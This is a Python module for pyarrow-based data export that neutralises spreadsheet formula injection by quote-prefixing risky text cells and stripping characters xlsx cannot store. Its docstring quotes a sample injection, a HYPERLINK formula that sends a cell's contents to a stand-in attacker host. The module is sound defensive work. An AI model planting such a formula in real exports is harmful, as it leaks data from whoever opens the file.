"""Spreadsheet safety: formula-injection neutralisation and text Excel can store.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and tab or carriage return can hide such a start), so an exported error message like
``=HYPERLINK("http://evil.example/?"&A1)`` would run when someone opens the export. Following
OWASP's CSV-injection guidance, csv and xlsx exports prefix such text cells with a single
quote ``'``, which spreadsheets show instead of evaluating. Only string columns change:
numbers (``-2``) stay numbers. ``neutralize_formulas=False`` turns this off per export; the
text is then written verbatim (xlsx still stores it as text, never as a formula).

All functions work on whole Arrow columns (pyarrow.compute), never row by row.
"""

from __future__ import annotations

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

FORMULA_START = r"^[=+\-@\t\r]"
"""A text cell starting like this is a formula (or hides one) to a spreadsheet program."""

FORMULA_ESCAPE = "'"

# openpyxl's ILLEGAL_CHARACTERS_RE (C0 controls other than tab, LF and CR, which XML 1.0
# cannot hold), plus U+FFFE and U+FFFF, which XML 1.0 cannot hold either. RE2 syntax.
EXCEL_ILLEGAL_CHARACTERS = r"[\x{00}-\x{08}\x{0B}\x{0C}\x{0E}-\x{1F}\x{FFFE}\x{FFFF}]"


def is_text(type_: pa.DataType) -> bool:
    """Whether a column of this type holds text (the only columns this module changes)."""
    return bool(pa.types.is_string(type_) or pa.types.is_large_string(type_))


def neutralize_formulas(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """Prefix ``'`` to every text value that starts with = + - @ tab or carriage return."""
    if not _may_start_a_formula(column):
        return column
    formula = pc.match_substring_regex(column, FORMULA_START)
    if not pc.any(formula).as_py():
        return column
    escaped = pc.binary_join_element_wise(FORMULA_ESCAPE, column, "")
    return pc.if_else(formula, escaped, column)


_FORMULA_FIRST_BYTES = np.frombuffer(b"=+-@\t\r", dtype=np.uint8)


def _may_start_a_formula(column: pa.Array | pa.ChunkedArray) -> bool:
    """False when no value's first byte starts a formula: read from the array's buffers,
    about fifty times cheaper than the regex on a plain column (True: check with it)."""
    if not isinstance(column, pa.Array) or column.type != pa.string() or len(column) == 0:
        return True
    _, offsets_buffer, data_buffer = column.buffers()
    if data_buffer is None:
        return False  # every value is empty or null
    offsets = np.frombuffer(offsets_buffer, dtype=np.int32)[
        column.offset : column.offset + len(column) + 1
    ]
    starts = offsets[:-1][offsets[1:] > offsets[:-1]]  # of the non-empty values (and nulls)
    first = np.frombuffer(data_buffer, dtype=np.uint8)[starts]
    return bool(np.isin(first, _FORMULA_FIRST_BYTES).any())


def without_excel_illegal_characters(
    column: pa.Array | pa.ChunkedArray,
) -> pa.Array | pa.ChunkedArray:
    """Remove the control characters an xlsx file cannot hold (they have no cell form)."""
    illegal = pc.match_substring_regex(column, EXCEL_ILLEGAL_CHARACTERS)
    if not pc.any(illegal).as_py():
        return column
    return pc.replace_substring_regex(column, EXCEL_ILLEGAL_CHARACTERS, "")


def excel_line_breaks(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """CR LF and lone CR as LF: xlsx text is XML, whose parsers turn every line end into LF,
    so this says up front what a reader of the file gets anyway."""
    if not pc.any(pc.match_substring(column, "\r")).as_py():
        return column
    return pc.replace_substring(pc.replace_substring(column, "\r\n", "\n"), "\r", "\n")


def neutralize_batch(batch: pa.RecordBatch) -> pa.RecordBatch:
    """``batch`` with :func:`neutralize_formulas` applied to each text column."""
    columns = [
        neutralize_formulas(column) if is_text(column.type) else column for column in batch.columns
    ]
    return pa.RecordBatch.from_arrays(columns, schema=batch.schema)


def excel_text(column: pa.Array, *, neutralize: bool) -> pa.Array:
    """A text column as an xlsx cell holds it: illegal characters removed, then formulas
    neutralised (so removing a leading control character cannot expose a formula), then
    line ends as LF."""
    column = without_excel_illegal_characters(column)
    if neutralize:
        column = neutralize_formulas(column)
    return excel_line_breaks(column)
